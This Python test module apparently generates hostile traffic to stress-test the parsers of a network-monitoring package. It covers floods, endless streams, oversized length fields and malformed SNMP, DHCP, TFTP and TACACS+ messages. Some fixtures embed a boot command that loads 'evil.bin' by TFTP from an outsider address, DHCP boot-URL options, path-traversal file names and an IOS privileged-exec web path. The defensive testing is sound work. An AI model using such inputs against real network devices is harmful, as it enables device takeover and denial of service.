"""What outsiders can send to each parser of the package, of any size: bytes that never end, or never make sense."""

from __future__ import annotations

import random
from collections.abc import Callable

from bootwarden.traffic import http, images, radius, smart_install, snmp, syslog, tacacs, tftp
from bootwarden.traffic.dhcp import Client
from bootwarden.traffic.wire import Tcp, Wire

OUTSIDER, DEVICE, SERVER = "10.0.6.66", "10.0.1.1", "10.0.0.5"
TELNET, SYSLOG, FTP, RSH, HTTP = 23, 514, 21, 514, 80
COMMAND = "boot system tftp://10.0.6.66/evil.bin "

Hostile = Callable[[Wire, int], None]
"""Puts about so many bytes on a wire."""


def _bytes(unit: bytes, size: int) -> bytes:
    return unit * (size // len(unit) + 1)


def _stream(port: int, begin: bytes, unit: bytes, *, echoed: bool = False, from_client: bool = True) -> Hostile:
    """One connection: how it begins, and then the same over and over."""

    def build(wire: Wire, size: int) -> None:
        tcp = Tcp(wire, OUTSIDER, 50001, DEVICE, port)
        if port == TELNET:
            tcp.reply(b"\r\nedge1#")
        tcp.send(begin)
        body = _bytes(unit, size)
        if not echoed:
            tcp.send(body, from_client=from_client)
            return
        for at in range(0, len(body), 1460):
            tcp.send(body[at : at + 1460])
            tcp.reply(body[at : at + 1460])

    return build


def _web(path: str, begin: bytes, unit: bytes) -> Hostile:
    """A request to web management whose body goes on and on."""

    def build(wire: Wire, size: int) -> None:
        http.order(wire, OUTSIDER, DEVICE, path, begin + _bytes(unit, size))

    return build


def _read(content: bytes, blksize: int | None = None) -> Hostile:
    """A configuration by TFTP that is the same over and over."""

    def build(wire: Wire, size: int) -> None:
        options = {} if blksize is None else {"blksize": blksize}
        tftp.read(wire, DEVICE, OUTSIDER, "edge1-confg", b"hostname edge1\n" + _bytes(content, size), offer=options)

    return build


def unfinished_reads(wire: Wire, size: int) -> None:
    """Configurations that stop after their first block, each to another device."""
    for number in range(size // 600 + 1):
        device = f"10.{64 + number // 60_000}.{number // 250 % 240}.{1 + number % 250}"
        moved = tftp.Transfer(wire, device, OUTSIDER, "edge1-confg", _bytes(b"hostname edge1\n", 1024))
        moved.ask()
        moved.from_server(tftp.data(1, moved.content[:512]))


def commands_in_syslog(wire: Wire, size: int) -> None:
    """Datagrams full of a boot command, each from another device."""
    for number in range(size // 1400 + 1):
        text = f"<189>%PARSER-5-CFGLOG_LOGGEDCMD: User:a logged command:{COMMAND * 30}"
        syslog.send(wire, f"10.64.{number // 250}.{1 + number % 250}", text[:1400])


def restart_reasons(wire: Wire, size: int) -> None:
    """Answers about restarts with long texts, each from another device."""
    for number in range(size // 1200 + 1):
        device = f"10.64.{number // 250}.{1 + number % 250}"
        manager = snmp.Manager(wire, OUTSIDER, device, "public", port=30000 + number % 30000)
        manager.get(("1.3.6.1.4.1.9.2.1.2.0", "reload " + "x" * 1150 + str(number)))


def broken_sets(wire: Wire, size: int) -> None:
    """SETs of sixty objects with rubbish behind them."""
    rng = random.Random(1542)
    for number in range(size // 1300 + 1):
        wire.udp(OUTSIDER, 40000 + number % 20000, DEVICE, 161, b"\x30\x82\x05\x00\x02\x01\x01" + rng.randbytes(1290))


def offers(wire: Wire, size: int) -> None:
    """Offers to ever new clients, full of boot options."""
    urls = f"tftp://{OUTSIDER}/evil.bin "
    options = [(code, (urls * 9)[:250]) for code in (67, 114, 128, 129, 239)]
    for number in range(size // 1500 + 1):
        client = Client(wire, f"10.64.{number // 250}.{1 + number % 250}", xid=number + 1)
        client.reply(OUTSIDER, 2, options)


def accounted_without_end(wire: Wire, size: int) -> None:
    """Messages of TACACS+ that claim 65,535 bytes, on one connection."""
    tcp = Tcp(wire, DEVICE, 50049, SERVER, tacacs.PORT)
    body = tacacs.request(tacacs.ACCOUNTING, "anna", OUTSIDER, tacacs.whole(COMMAND * 5))
    for number in range(size // 65_535 + 1):
        whole = tacacs.message(tacacs.ACCOUNTING, number + 1, 1, body.ljust(65_535, b"a"), None, tacacs.IN_CLEAR)
        tcp.send(whole)


def accounted_by_radius(wire: Wire, size: int) -> None:
    """Accounting requests full of vendors' attributes."""
    for number in range(size // 1300 + 1):
        said = [radius.of_vendor(radius.JUNIPER, 8, COMMAND * 5) for _ in range(6)]
        radius.account(wire, f"10.64.{number // 250}.{1 + number % 250}", SERVER, *said, number=number % 256)


def install_without_end(wire: Wire, size: int) -> None:
    """A Smart Install message that claims four gigabytes."""
    tcp = Tcp(wire, OUTSIDER, 50002, DEVICE, smart_install.PORT)
    tcp.send(smart_install.message(smart_install.IMAGE, _bytes(COMMAND.encode(), size), length=0xFFFFFFFF))


def requests_flood(wire: Wire, size: int) -> None:
    """Requests for AutoInstall's names from ever new addresses."""
    for number in range(size // 60 + 1):
        client = f"10.{64 + number // 62_500}.{number // 250 % 250}.{1 + number % 250}"
        wire.udp(client, 1024 + number % 60000, SERVER, 69, tftp.request(tftp.READ, "network-confg"))


def names_flood(wire: Wire, size: int) -> None:
    """Long names with steps up, from one port."""
    for number in range(size // 500 + 1):
        wire.udp(OUTSIDER, 40000, SERVER, 69, tftp.request(tftp.READ, "a/../" * 90 + str(number)))


def image_tags(wire: Wire, size: int) -> None:
    """An image by TFTP full of what looks like the begin of a tag."""
    content = images.ios()[:2048] + _bytes(b"CW_BEGIN$CW_VERSION$", size)
    tftp.read(wire, DEVICE, SERVER, "c2900-universalk9-mz.SPA.157-3.M8.bin", content, offer={"blksize": 1428})


HOSTILE: dict[str, Hostile] = {
    "telnet: letters, no Enter": _stream(TELNET, b"", b"boot system tftp "),
    "telnet: words rubbed out": _stream(TELNET, b"", b"word \x17"),
    "telnet: cursor keys": _stream(TELNET, b"", b"a\x1b[D"),
    "telnet: escape sequences without end": _stream(TELNET, b"", b"\x1b[1;"),
    "telnet: short lines": _stream(TELNET, b"", b"a\r\n", echoed=True),
    "telnet: to the line's start and on": _stream(TELNET, b"", b"ab\x01", echoed=True),
    "telnet: backspaces shown": _stream(TELNET, b"show", b"a\b \b", echoed=True),
    "telnet: what a device shows": _stream(TELNET, b"show\r\n", b"Loading image from 10.0.6.66 ", from_client=False),
    "rsh: a command without end": _stream(RSH, b"0\0root\0root\0", COMMAND.encode()),
    "FTP: a command without end": _stream(FTP, b"USER a\r\nRETR ", b"a/../"),
    "syslog by TCP: no line's end": _stream(SYSLOG, b"<189>", COMMAND.encode()),
    "syslog by TCP: a count of many digits": _stream(SYSLOG, b"", b"99999999 <189>"),
    "eAPI: JSON without end": _web("/command-api", b'{"jsonrpc":"2.0","params":{"cmds":["', b'a","{[\\"'),
    "WSMA: XML without end": _web("/wsma/exec", b"<SOAP:Envelope><execCLI>", b"<cmd>boot "),
    "IOS: a path without end": _stream(HTTP, b"GET /level/15/exec/-/", b"boot%2520/%252e"),
    "configuration: one line": _read(b"boot system "),
    "configuration: short lines": _read(b"!\n"),
    "configuration: boot lines": _read(f"{COMMAND}\n".encode()),
    "configuration: blocks of 8 bytes": _read(b"hostname a\n", 8),
    "configurations that stop": unfinished_reads,
    "image full of tags": image_tags,
    "TFTP: requests from everywhere": requests_flood,
    "TFTP: names that climb": names_flood,
    "syslog: commands of many devices": commands_in_syslog,
    "SNMP: reasons of restarts": restart_reasons,
    "SNMP: broken SETs": broken_sets,
    "DHCP: offers of URLs": offers,
    "TACACS+: 65,535 bytes": accounted_without_end,
    "RADIUS: full of commands": accounted_by_radius,
    "Smart Install: no message's end": install_without_end,
}
"""By the parser that reads it."""
